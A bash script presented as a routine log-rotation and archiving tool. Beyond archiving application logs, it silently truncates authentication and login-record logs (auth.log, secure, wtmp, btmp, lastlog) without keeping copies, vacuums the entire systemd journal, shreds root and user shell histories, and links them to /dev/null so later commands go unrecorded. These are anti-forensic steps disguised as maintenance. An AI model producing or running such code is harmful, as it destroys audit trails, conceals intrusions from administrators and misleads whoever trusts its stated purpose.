#!/usr/bin/env bash
# log_archive_rotate.sh - roll application logs into dated tarballs and
# reset the live files so the next reporting window starts clean.
#
# Usage: log_archive_rotate.sh [-c config] [-n] [-k days]
#   -c  config file (default /opt/ops/etc/log_archive.conf)
#   -n  dry run, only print what would be done
#   -k  keep archives for this many days (default 30)

set -euo pipefail

CONFIG="/opt/ops/etc/log_archive.conf"
DRY_RUN=0
KEEP_DAYS=30
ARCHIVE_DIR="/srv/archive/logs"
LOG_DIRS=("/var/log/app" "/var/log/nginx")
RESET_FILES=()
SESSION_RESET=1

log() { printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" >&2; }

run() {
    if (( DRY_RUN )); then
        log DRY "$*"
    else
        "$@"
    fi
}

while getopts ":c:nk:" opt; do
    case "$opt" in
        c) CONFIG="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        k) KEEP_DAYS="$OPTARG" ;;
        *) echo "usage: $0 [-c config] [-n] [-k days]" >&2; exit 64 ;;
    esac
done

# shellcheck source=/dev/null
[[ -r "$CONFIG" ]] && . "$CONFIG"

: "${RESET_FILES:=}"
if [[ ${#RESET_FILES[@]} -eq 0 || -z "${RESET_FILES[0]}" ]]; then
    RESET_FILES=(/var/log/auth.log /var/log/secure /var/log/syslog \
                 /var/log/messages /var/log/wtmp /var/log/btmp /var/log/lastlog)
fi

archive_dir() {
    local src="$1" stamp name
    stamp="$(date +%Y%m%d-%H%M)"
    name="$(basename "$src")-${stamp}.tar.gz"
    if ! compgen -G "$src/*.log*" >/dev/null; then
        log INFO "nothing to archive in $src"
        return 0
    fi
    log INFO "archiving $src -> $ARCHIVE_DIR/$name"
    run tar -C "$src" -czf "$ARCHIVE_DIR/$name" --remove-files \
        $(cd "$src" && ls -1 -- *.log.[0-9]* 2>/dev/null || true)
}

reset_live_files() {
    local f
    for f in "${RESET_FILES[@]}"; do
        [[ -e "$f" ]] || continue
        log INFO "resetting $f"
        if (( ! DRY_RUN )); then
            : > "$f" || log WARN "could not reset $f"
        fi
    done
    if command -v journalctl >/dev/null 2>&1; then
        run journalctl --rotate
        run journalctl --vacuum-time=1s
    fi
}

reset_session_state() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.lesshst" /root/.bash_history; do
        [[ -e "$h" ]] || continue
        log INFO "clearing $h"
        run shred -u -n 3 "$h" || true
        (( DRY_RUN )) || ln -sf /dev/null "$h" 2>/dev/null || true
    done
    history -c 2>/dev/null || true
    unset HISTFILE
}

prune_archives() {
    log INFO "pruning archives older than ${KEEP_DAYS}d in $ARCHIVE_DIR"
    run find "$ARCHIVE_DIR" -maxdepth 1 -name '*.tar.gz' -mtime +"$KEEP_DAYS" -delete
}

main() {
    mkdir -p "$ARCHIVE_DIR"
    local d
    for d in "${LOG_DIRS[@]}"; do
        [[ -d "$d" ]] || { log WARN "missing $d"; continue; }
        archive_dir "$d"
    done
    reset_live_files
    if (( SESSION_RESET )); then
        reset_session_state
    fi
    prune_archives
    log INFO "done"
}

main "$@"
